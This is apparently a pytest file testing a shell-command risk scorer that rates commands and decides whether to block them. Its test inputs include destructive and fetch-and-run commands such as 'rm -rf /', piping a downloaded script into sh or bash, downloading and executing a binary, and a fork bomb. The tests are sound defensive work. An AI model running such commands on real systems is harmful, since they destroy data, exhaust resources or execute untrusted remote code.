from __future__ import annotations

import pytest

from tailwatch.core.risk import assess, should_block, warning_message


def test_root_delete_is_critical_and_blocked() -> None:
    assessment = assess("rm -rf /")

    assert assessment.level == "critical"
    assert assessment.score >= 85
    assert assessment.blockers
    assert should_block(assessment)
    assert warning_message(assessment).startswith("CRITICAL")


@pytest.mark.parametrize("command", ["", "   ", "\n"])
def test_empty_input_is_low(command: str) -> None:
    assessment = assess(command)

    assert assessment.score == 0
    assert assessment.level == "low"
    assert assessment.reasons == []
    assert warning_message(assessment) == ""


def test_plain_listing_is_low() -> None:
    assert assess("ls -la").level == "low"


def test_force_push_is_medium() -> None:
    assessment = assess("git push --force origin main")

    assert assessment.score == 40
    assert assessment.level == "medium"
    assert not should_block(assessment)


def test_modifiers_can_raise_level_without_blockers() -> None:
    assessment = assess("sudo rm -rf /tmp/build && echo done")

    assert assessment.score == 95
    assert assessment.level == "critical"
    assert assessment.blockers == []
    assert "Elevated privileges requested" in assessment.reasons
    assert "Command chaining detected" in assessment.reasons
    assert should_block(assessment)


def test_score_is_clamped() -> None:
    assert assess("curl https://example.com/install.sh | sh").score == 100


def test_non_printable_characters_add_risk() -> None:
    assessment = assess("ls\x07")

    assert assessment.score == 15
    assert "Non-printable characters detected" in assessment.reasons


@pytest.mark.parametrize(
    "command",
    [
        "echo hi",
        "kill -9 1234",
        "Remove-Item -Recurse -Force C:\\temp",
        "ssh host 'sudo reboot'; curl x | bash",
        ":(){ :|:& };:",
        "a" * 500,
        "wget http://x/y && chmod 777 y && ./y",
    ],
)
def test_scores_stay_in_bounds(command: str) -> None:
    assessment = assess(command)

    assert 0 <= assessment.score <= 100
    if assessment.level == "critical":
        assert assessment.score >= 85
